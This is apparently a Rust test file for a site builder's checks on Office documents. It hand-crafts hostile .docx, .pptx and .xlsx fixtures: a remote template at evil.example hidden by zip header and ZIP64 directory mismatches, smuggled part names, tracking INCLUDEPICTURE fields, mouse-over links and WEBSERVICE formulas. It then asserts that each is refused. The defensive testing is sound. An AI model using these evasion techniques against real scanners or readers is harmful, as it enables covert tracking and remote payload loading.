//! The hostile-input and careless-input findings fixed in the twentieth
//! round.

mod common;

use common::office::{package, site_linking};
use common::{message_at, tree};

const DOCUMENT: &str = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p/></w:body></w:document>";
const SETTINGS: &str = "word/_rels/settings.xml.rels";
/// Relationships that attach a template from another host: Word fetches
/// it on opening.
const REMOTE: &str = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";

/// A part of a zip written by hand, stored as it is; with `sizes_after`
/// its headers say its sizes follow its data, and a record giving them
/// does.
struct Part<'a> {
    name: &'a str,
    data: &'a [u8],
    sizes_after: bool,
}

fn part<'a>(name: &'a str, data: &'a [u8]) -> Part<'a> {
    Part {
        name,
        data,
        sizes_after: false,
    }
}

/// A zip written by hand, so that a test can make its records disagree:
/// its bytes, where each part's header and the record after it start,
/// and where its directory starts.
struct Zip {
    bytes: Vec<u8>,
    headers: Vec<usize>,
    after: Vec<usize>,
    directory: usize,
}

fn crc(data: &[u8]) -> u32 {
    let mut c = flate2::Crc::new();
    c.update(data);
    c.sum()
}

/// The fields a part's header and its directory entry share.
fn fields(p: &Part) -> Vec<u8> {
    let mut f = Vec::new();
    let flags: u16 = if p.sizes_after { 8 } else { 0 };
    for v in [flags, 0, 0, 0] {
        f.extend(v.to_le_bytes());
    }
    f.extend(crc(p.data).to_le_bytes());
    f.extend((p.data.len() as u32).to_le_bytes());
    f.extend((p.data.len() as u32).to_le_bytes());
    f.extend((p.name.len() as u16).to_le_bytes());
    f.extend(0u16.to_le_bytes());
    f
}

/// One directory entry, for the part `p` whose header is at `at`.
fn entry(p: &Part, at: usize) -> Vec<u8> {
    let mut e = b"PK\x01\x02\x14\x00\x14\x00".to_vec();
    e.extend(fields(p));
    e.extend([0u8; 10]);
    e.extend((at as u32).to_le_bytes());
    e.extend(p.name.as_bytes());
    e
}

/// The header of the part `p`, and its data.
fn header(p: &Part) -> Vec<u8> {
    let mut h = b"PK\x03\x04\x14\x00".to_vec();
    h.extend(fields(p));
    h.extend(p.name.as_bytes());
    h.extend(p.data);
    h
}

/// `parts` stored, their directory, `before_end` (given where it starts)
/// and the directory's classic end.
fn hand_zip(parts: &[Part], before_end: impl Fn(usize) -> Vec<u8>) -> Zip {
    let (mut bytes, mut headers, mut after, mut directory) = (vec![], vec![], vec![], vec![]);
    for p in parts {
        headers.push(bytes.len());
        directory.extend(entry(p, bytes.len()));
        bytes.extend(header(p));
        after.push(bytes.len());
        if p.sizes_after {
            bytes.extend(b"PK\x07\x08");
            bytes.extend(crc(p.data).to_le_bytes());
            bytes.extend((p.data.len() as u32).to_le_bytes());
            bytes.extend((p.data.len() as u32).to_le_bytes());
        }
    }
    let start = bytes.len();
    bytes.extend(&directory);
    bytes.extend(before_end(bytes.len()));
    bytes.extend(b"PK\x05\x06\0\0\0\0");
    let count = parts.len() as u16;
    bytes.extend(count.to_le_bytes());
    bytes.extend(count.to_le_bytes());
    bytes.extend((directory.len() as u32).to_le_bytes());
    bytes.extend((start as u32).to_le_bytes());
    bytes.extend(0u16.to_le_bytes());
    Zip {
        bytes,
        headers,
        after,
        directory: start,
    }
}

/// A ZIP64 end of a directory of `count` entries, `size` bytes long from
/// `offset`, written at `at`, and what leads to it.
fn zip64_end(count: u64, size: u64, offset: u64, at: usize) -> Vec<u8> {
    let mut r = b"PK\x06\x06".to_vec();
    r.extend(44u64.to_le_bytes());
    r.extend([45u8, 0, 45, 0]);
    r.extend([0u8; 8]);
    for v in [count, count, size, offset] {
        r.extend(v.to_le_bytes());
    }
    r.extend(b"PK\x06\x07\0\0\0\0");
    r.extend((at as u64).to_le_bytes());
    r.extend(1u32.to_le_bytes());
    r
}

/// Builds a site linking `bytes` as `report.docx` and returns the error
/// said about it and its hint, checking that the previous output is left
/// as it was; `None` when it was published.
fn refusal(bytes: &[u8]) -> Option<(String, String)> {
    let (site, before) = site_linking("report.docx", bytes);
    let o = site.build();
    if o.code == 0 {
        return None;
    }
    assert_eq!(o.code, 1, "{}", o.stderr);
    let (line, hint) = message_at(&o.stderr, "guidance/handbook/report.docx");
    assert_eq!(tree(&site.out()), before, "the output changed");
    let head = "error: not published: cannot check what the document fetches or runs when \
                opened, or who wrote it: ";
    let said = line.split_once(head).unwrap_or(("", line)).1;
    Some((said.to_string(), hint.to_string()))
}

/// Runs each case, a document and the start of what must be said of it,
/// and fails naming every one published or told otherwise.
fn all_refused(cases: Vec<(&str, Vec<u8>, String)>) {
    let mut wrong = Vec::new();
    for (what, bytes, said) in cases {
        match refusal(&bytes) {
            Some((s, hint))
                if s.starts_with(&said)
                    && hint
                        .starts_with("open it in the program that made it and save it again") => {}
            other => wrong.push(format!("{what}: {other:?}")),
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Each document must be published as it is, with nothing said of it.
fn all_published(cases: Vec<(&str, Vec<u8>)>) {
    for (what, bytes) in cases {
        let (site, _) = site_linking("report.docx", &bytes);
        let o = site.build_ok();
        assert!(!o.stderr.contains("report.docx"), "{what}: {}", o.stderr);
        assert_eq!(
            std::fs::read(site.out().join("en/handbook/report.docx")).unwrap(),
            bytes,
            "{what}"
        );
    }
}

/// A stored part's data: a few bytes, then a whole zip holding the outside
/// template, which the part's bytes hide from the checks.
fn hiding() -> Vec<u8> {
    let mut data = b"filler".to_vec();
    data.extend(package(&[(SETTINGS, REMOTE)]));
    data
}

const HIDER: &str = "docProps/thumbnail.bin";

/// A stored part was checked as the zip's directory gives it, and its
/// own header never compared with it: a `.docx` holding a stored part
/// whose header gives it 6 bytes (or says it is compressed, or that its
/// sizes follow it and then a record giving 6 bytes in its data), the rest
/// of its data a zip with an outside template, was published, though a
/// program that reads the parts in order (a streaming reader, a repair)
/// stops reading the part there and opens the template. So was one whose
/// record after a part gives another size than the directory. Now each is
/// not published (an error naming the part), the previous output left as
/// it was; the same parts written as a program writes them are published.
#[test]
fn a_part_whose_own_records_disagree_with_its_directory_is_not_published() {
    let data = hiding();
    let plain = || {
        vec![
            part("word/document.xml", DOCUMENT.as_bytes()),
            part(HIDER, &data),
        ]
    };
    let with = |f: &dyn Fn(&mut Zip)| {
        let mut z = hand_zip(&plain(), |_| vec![]);
        f(&mut z);
        z.bytes
    };
    let shorter = with(&|z| z.bytes[z.headers[1] + 18..][..4].copy_from_slice(&6u32.to_le_bytes()));
    let compressed = with(&|z| z.bytes[z.headers[1] + 8] = 8);
    // Sizes after the data, and a record that says 6 bytes after the
    // first 6 of them.
    let mut early = b"filler".to_vec();
    early.extend(b"PK\x07\x08");
    early.extend(crc(b"filler").to_le_bytes());
    early.extend([6, 0, 0, 0, 6, 0, 0, 0]);
    early.extend(package(&[(SETTINGS, REMOTE)]));
    let after = |data| {
        vec![
            part("word/document.xml", DOCUMENT.as_bytes()),
            Part {
                name: HIDER,
                data,
                sizes_after: true,
            },
        ]
    };
    let ended = hand_zip(&after(&early), |_| vec![]).bytes;
    let mut disagreeing = hand_zip(&after(&data), |_| vec![]);
    let at = disagreeing.after[1] + 8;
    disagreeing.bytes[at..at + 4].copy_from_slice(&6u32.to_le_bytes());
    let part_said = format!("its part `{HIDER}` ");
    all_refused(vec![
        (
            "a shorter size in its header",
            shorter,
            format!(
                "{part_said}has another size in its own header than in its directory, and a program that reads the parts in order reads it otherwise, and can open a part hidden in it"
            ),
        ),
        (
            "compressed in its header",
            compressed,
            format!("{part_said}is compressed otherwise in its own header than in its directory"),
        ),
        (
            "a record ending it early",
            ended,
            format!("{part_said}holds, inside its data, the record that ends a part"),
        ),
        (
            "a record after it disagreeing",
            disagreeing.bytes,
            format!(
                "the record after its part `{HIDER}` gives it another size or checksum than its directory does"
            ),
        ),
    ]);
    // Not a false alarm: the same parts as written, with their sizes in
    // the header or after the data, and a zip the zip library writes with
    // ZIP64 sizes in each header.
    let large = {
        use std::io::Write;
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let options = zip::write::SimpleFileOptions::default().large_file(true);
        w.start_file("word/document.xml", options).unwrap();
        w.write_all(DOCUMENT.as_bytes()).unwrap();
        w.finish().unwrap().into_inner()
    };
    all_published(vec![
        ("as written", hand_zip(&plain(), |_| vec![]).bytes),
        ("sizes after", hand_zip(&after(&data), |_| vec![]).bytes),
        ("ZIP64 sizes", large),
    ]);
}

/// The ZIP64 end of a zip's directory was never looked at: a `.docx`
/// whose classic end lists its document and a stored part, while its ZIP64
/// end leads to a second directory inside that part, listing an outside
/// template, was published, though a program that prefers the ZIP64 end
/// opens the template. Now it is not published (an error saying the two
/// ends lead to different lists), the previous output left as it was; a
/// ZIP64 end that agrees with the classic one is published.
#[test]
fn a_zip64_end_leading_elsewhere_is_not_published() {
    let document = part("word/document.xml", DOCUMENT.as_bytes());
    // The part's data: the template's header and its directory entry, at
    // the offsets they have in the file (learnt from a first layout).
    let template = part(SETTINGS, REMOTE.as_bytes());
    // A few bytes first: a part starting as a zip is checked as a document
    // inside the document.
    let blob = |start: usize| {
        let mut b = b"filler".to_vec();
        b.extend(header(&template));
        b.extend(entry(&template, start + 6));
        b
    };
    let first = hand_zip(&[document, part(HIDER, &blob(0))], |_| vec![]);
    let start = first.headers[1] + 30 + HIDER.len();
    let inner = blob(start);
    let hidden_directory = start + 6 + header(&template).len();
    let parts = || {
        vec![
            part("word/document.xml", DOCUMENT.as_bytes()),
            part(HIDER, &inner),
        ]
    };
    let entries_len = entry(&template, 0).len() as u64;
    let elsewhere = hand_zip(&parts(), |at| {
        zip64_end(1, entries_len, hidden_directory as u64, at)
    });
    assert_eq!(elsewhere.directory, first.directory);
    all_refused(vec![(
        "a ZIP64 end leading elsewhere",
        elsewhere.bytes,
        "it holds a ZIP64 end to its directory that leads elsewhere than its classic end, so programs differ on which list of parts they read".to_string(),
    )]);
    // Not a false alarm: a ZIP64 end that says what the classic one says.
    let directory = first.directory as u64;
    let listed = (first.bytes.len() - 22) as u64 - directory;
    let agreeing = hand_zip(&parts(), |at| zip64_end(2, listed, directory, at));
    all_published(vec![("a ZIP64 end agreeing", agreeing.bytes)]);
}

/// A part's name was taken as the zip gives it: a `.docx` whose header
/// with a tracking picture was named `/word/header1.xml` or
/// `word\header1.xml`, or a workbook whose Excel
/// 4.0 macro sheet was named `xl/../xl/macrosheets/sheet1.xml`, was
/// published unchecked, since the checks look for `word/` and
/// `xl/macrosheets/`, though a program that cleans up the name opens them.
/// Now such a name is refused (an error naming the part), the previous
/// output left as it was; folders named with a final `/` still pass.
#[test]
fn a_part_named_otherwise_than_any_program_writes_is_not_published() {
    let tracking = "<w:hdr xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> INCLUDEPICTURE \"https://tracker.example/p.png\" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:hdr>";
    let mut cases = Vec::new();
    for name in ["/word/header1.xml", "word\\header1.xml"] {
        let bytes = package(&[("word/document.xml", DOCUMENT), (name, tracking)]);
        cases.push((name, bytes));
    }
    let sheet = "xl/../xl/macrosheets/sheet1.xml";
    cases.push((
        sheet,
        package(&[
            ("xl/workbook.xml", "<workbook/>"),
            (sheet, "<xm:macrosheet/>"),
        ]),
    ));
    all_refused(
        cases
            .iter()
            .map(|(name, bytes)| {
                let said = format!("its part `{name}` has a name programs read differently");
                (*name, bytes.clone(), said)
            })
            .collect(),
    );
    // The same header under its own name is refused for its picture.
    common::office::refused(
        "report.docx",
        &package(&[
            ("word/document.xml", DOCUMENT),
            ("word/header1.xml", tracking),
        ]),
        &["INCLUDEPICTURE field `https://tracker.example/p.png`"],
    );
    let folders = {
        use std::io::Write;
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let options = zip::write::SimpleFileOptions::default();
        w.add_directory("word/", options).unwrap();
        w.start_file("word/document.xml", options).unwrap();
        w.write_all(DOCUMENT.as_bytes()).unwrap();
        w.finish().unwrap().into_inner()
    };
    all_published(vec![("a folder entry", folders)]);
}

/// Two published names were compared in lowercase, which keeps a Greek
/// word's final `ς` apart from the `σ` its capital `Σ` lowers to (and the
/// long `ſ` from `s`): `static/οδηγός.txt` beside `static/ΟΔΗΓΌΣ.txt`
/// was published as two files, though Windows and macOS, which compare
/// names by their capitals, hold one, and a copy to a USB stick loses one.
/// Now the pair is an error naming both; names that differ on those
/// systems too (`straße` and `strasse`, `i` and the dotted `İ`) are still
/// published, with nothing said.
#[test]
fn names_one_by_their_capitals_are_an_error() {
    for (a, b) in [("οδηγός.txt", "ΟΔΗΓΌΣ.txt"), ("ſign.txt", "sign.txt")] {
        let site = common::Site::fixture("basic");
        site.write(&format!("static/{a}"), "one\n");
        site.write(&format!("static/{b}"), "two\n");
        let o = site.build();
        assert_eq!(o.code, 1, "{a}: {}", o.stderr);
        let said = "differ only by case or Unicode normalisation: on Windows and macOS they would be one file";
        assert!(
            o.stderr.lines().any(|l| l.starts_with("static/")
                && l.contains(&format!("`{a}`"))
                && l.contains(&format!("`{b}`"))
                && l.contains(said)),
            "{a}: {}",
            o.stderr
        );
        assert!(!site.out().exists(), "{a}: written");
    }
    let site = common::Site::fixture("basic");
    for name in ["straße.txt", "strasse.txt", "i.txt", "İ.txt"] {
        site.write(&format!("static/{name}"), name);
    }
    let o = site.build_ok();
    assert!(!o.stderr.contains("differ only"), "{}", o.stderr);
    for name in ["straße.txt", "strasse.txt", "i.txt", "İ.txt"] {
        assert_eq!(
            std::fs::read_to_string(site.out().join(name)).unwrap(),
            name
        );
    }
}

/// Word's fields and PowerPoint's mouse-overs were looked for in parts
/// under `word/` and `ppt/` only, while Word and PowerPoint find a part by
/// the package's relationships, whatever its folder: a `.docx` whose body,
/// at `main/document.xml`, fetches a tracking picture on opening, or a
/// `.pptx` whose slide, at `show/slide1.xml`, follows a link when the
/// pointer passes over a shape, was published. Now each is not published,
/// for its field or mouse-over, as under its usual folder; a part
/// elsewhere that only names a field in its text, and a click's link,
/// are still published.
#[test]
fn fields_and_mouse_overs_outside_their_usual_folders_are_found() {
    let tracking = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:fldSimple w:instr=\" INCLUDEPICTURE &quot;https://tracker.example/p.png&quot; \\d \"/></w:p></w:body></w:document>";
    let main = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"main/document.xml\"/></Relationships>";
    let types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Override PartName=\"/main/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    let docx = |body: &str| {
        package(&[
            ("[Content_Types].xml", types),
            ("_rels/.rels", main),
            ("main/document.xml", body),
        ])
    };
    common::office::refused(
        "report.docx",
        &docx(tracking),
        &["INCLUDEPICTURE field `https://tracker.example/p.png`"],
    );
    let slide = |link: &str| {
        format!(
            "<p:sld xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id=\"4\" name=\"Box\">{link}</p:cNvPr></p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>"
        )
    };
    let rels = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://t.example/seen\" TargetMode=\"External\"/></Relationships>";
    let deck = |link: &str| {
        package(&[
            ("show/slide1.xml", &slide(link)),
            ("show/_rels/slide1.xml.rels", rels),
        ])
    };
    common::office::refused(
        "training.pptx",
        &deck("<a:hlinkHover r:id=\"rId2\"/>"),
        &[
            "link followed when the pointer passes over it in `show/slide1.xml` `https://t.example/seen`",
        ],
    );
    // Not a false alarm: a click's link, and a part that names a field in
    // its text.
    let note =
        "<note>instrText holds INCLUDEPICTURE \"https://tracker.example/p.png\"; hlinkHover</note>";
    for (file, bytes) in [
        ("training.pptx", deck("<a:hlinkClick r:id=\"rId2\"/>")),
        ("report.docx", docx(DOCUMENT)),
        (
            "report.docx",
            package(&[
                ("word/document.xml", DOCUMENT),
                ("customXml/item1.xml", note),
            ]),
        ),
    ] {
        let (site, _) = site_linking(file, &bytes);
        let o = site.build_ok();
        assert!(!o.stderr.contains(file), "{}", o.stderr);
        assert_eq!(
            std::fs::read(site.out().join(format!("en/handbook/{file}"))).unwrap(),
            bytes
        );
    }
}

/// Excel's formulas and Excel 4.0 macro sheets were looked for under
/// `xl/worksheets/` and `xl/macrosheets/` only, while Excel finds a sheet
/// by the workbook's relationships, whatever its folder: a workbook whose
/// sheet at `calc/sheet1.xml` calls `WEBSERVICE` as it is calculated, or
/// whose macro sheet sits at `macros/sheet1.xml`, was published. Now each
/// is not published; a chart elsewhere whose series name their cells is.
#[test]
fn sheets_outside_their_usual_folders_are_found() {
    let ns = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
    let sheet = format!(
        "<worksheet {ns}><sheetData><row r=\"1\"><c r=\"A1\"><f>WEBSERVICE(\"https://t.example/seen\")</f></c></row></sheetData></worksheet>"
    );
    common::office::refused(
        "figures.xlsx",
        &package(&[
            ("xl/workbook.xml", "<workbook/>"),
            ("calc/sheet1.xml", &sheet),
        ]),
        &["cell A1 of `calc/sheet1.xml` calls WEBSERVICE"],
    );
    let macros = "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData/></xm:macrosheet>";
    common::office::refused(
        "figures.xlsx",
        &package(&[
            ("xl/workbook.xml", "<workbook/>"),
            ("macros/sheet1.xml", macros),
        ]),
        &["`macros/sheet1.xml`"],
    );
    let chart = "<c:chartSpace xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\"><c:chart><c:ser><c:tx><c:strRef><c:f>Sheet1!$B$1</c:f></c:strRef></c:tx></c:ser></c:chart></c:chartSpace>";
    let bytes = package(&[
        ("xl/workbook.xml", "<workbook/>"),
        ("charts/chart1.xml", chart),
    ]);
    let (site, _) = site_linking("figures.xlsx", &bytes);
    let o = site.build_ok();
    assert!(!o.stderr.contains("figures.xlsx"), "{}", o.stderr);
    assert_eq!(
        std::fs::read(site.out().join("en/handbook/figures.xlsx")).unwrap(),
        bytes
    );
}

/// A slide's links were looked up in the relationships part of its exact
/// name, while PowerPoint finds `ppt/slides/_rels/Slide1.xml.rels` for
/// `slide1.xml` whatever the capitals: a deck whose slide follows a link
/// when the pointer passes over a shape, its relationships part named in
/// other capitals (alone, or beside a harmless one of the exact name),
/// was published, the link not found. Now it is not published, for the
/// link, as under its exact name; a click's link still is.
#[test]
fn a_mouse_over_whose_links_are_named_in_other_capitals_is_found() {
    let slide = |link: &str| {
        format!(
            "<p:sld xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id=\"4\" name=\"Box\">{link}</p:cNvPr></p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>"
        )
    };
    let rels = |target: &str| {
        format!(
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
        )
    };
    let seen = rels("https://t.example/seen");
    let harmless = rels("#slide2");
    let hover = slide("<a:hlinkHover r:id=\"rId2\"/>");
    let other = "ppt/slides/_rels/Slide1.XML.rels";
    for parts in [
        vec![("ppt/slides/slide1.xml", hover.as_str()), (other, &seen)],
        vec![
            ("ppt/slides/slide1.xml", &hover),
            ("ppt/slides/_rels/slide1.xml.rels", &harmless),
            (other, &seen),
        ],
    ] {
        common::office::refused(
            "training.pptx",
            &package(&parts),
            &[
                "link followed when the pointer passes over it in `ppt/slides/slide1.xml` `https://t.example/seen`",
            ],
        );
    }
    let click = slide("<a:hlinkClick r:id=\"rId2\"/>");
    let bytes = package(&[("ppt/slides/slide1.xml", &click), (other, &seen)]);
    let (site, _) = site_linking("training.pptx", &bytes);
    let o = site.build_ok();
    assert!(!o.stderr.contains("training.pptx"), "{}", o.stderr);
}
